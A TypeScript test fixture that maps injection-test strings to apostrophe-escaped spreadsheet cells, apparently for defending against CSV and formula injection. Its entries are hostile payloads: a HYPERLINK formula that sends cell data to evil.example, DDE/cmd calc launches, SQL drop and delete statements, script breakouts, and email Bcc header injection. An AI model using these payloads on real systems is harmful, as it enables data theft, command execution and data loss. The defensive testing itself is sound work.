import { injections } from './strings.ts';

/*
 * How a file of the desk has the strings of the injection test, written out by hand: those that a spreadsheet program would take for formulas, or
 * for cells of which one is a formula, have an apostrophe there. All others are as they were sent.
 */
const withApostrophe = new Map([
  ['--><script>trip()</script><!--', "'--><script>trip()</script><!--"],
  ['@import "https://evil.example/x.css";', '\'@import "https://evil.example/x.css";'],
  ['@(7*7)', "'@(7*7)"],
  ["'; drop table submissions; --", "'; drop table submissions;' --"],
  ["1'; select pg_sleep(10); --", "1'; select pg_sleep(10);' --"],
  ["\\'; delete from outbox; --", "\\'; delete from outbox;' --"],
  ['=1+1', "'=1+1"],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['=HYPERLINK("https://evil.example/?"&A1,"agua")', '\'=HYPERLINK("https://evil.example/?"&A1,"agua")'],
  ['+1+1', "'+1+1"],
  ['-1+1', "'-1+1"],
  ['@SUM(1,1)', "'@SUM(1,1)"],
  ['\t=1+1', "'\t'=1+1"],
  ['\r=1+1', "'\r'=1+1"],
  ['\n=1+1', "'\n'=1+1"],
  ['＝1+1', "'＝1+1"],
  [' =1+1', "' =1+1"],
  ['"=1+1"', '\'"=1+1"'],
  ['=IMPORTXML("https://evil.example/","//a")', '\'=IMPORTXML("https://evil.example/","//a")'],
  ['=DDE("cmd";"/C calc";"x")', '\'=DDE("cmd";"/C calc";"x")'],
  ['=?utf-8?b?QmNjOiBldmlsQGV4YW1wbGUubmV0?=', "'=?utf-8?b?QmNjOiBldmlsQGV4YW1wbGUubmV0?="],
  ['=?utf-8?q?=0d=0aBcc:_evil@example.net?=', "'=?utf-8?q?=0d=0aBcc:_evil@example.net?="],
  ['--=_part\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>', "'--=_part\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>"],
  ['\n'.repeat(150), `'${'\n'.repeat(150)}`],
  ['-0', "'-0"],
]);
// A string that is written otherwise one day would be looked for in vain.
for (const text of withApostrophe.keys())
  if (!injections.includes(text)) throw new Error(`${JSON.stringify(text)} is none of the strings.`);

/** The cell of a text of the injection test. */
export const cellOf = (text: string): string => withApostrophe.get(text) ?? text;
